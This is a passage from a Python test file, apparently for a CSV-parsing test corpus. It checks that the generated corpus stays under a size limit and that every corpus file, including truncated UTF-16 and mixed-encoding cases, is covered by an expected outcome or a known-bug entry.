    assert sum(len(d) for d in built.values()) < 2 * 1024 * 1024


def test_every_corpus_file_has_an_expected_outcome() -> None:
    covered = {c.file for c in CASES} | {p.values[0].file for p in KNOWN_BUGS}
    covered |= {"utf16_truncated.csv", "utf8_bom_then_cp1252.csv"}
    assert covered == set(make_corpus.build())
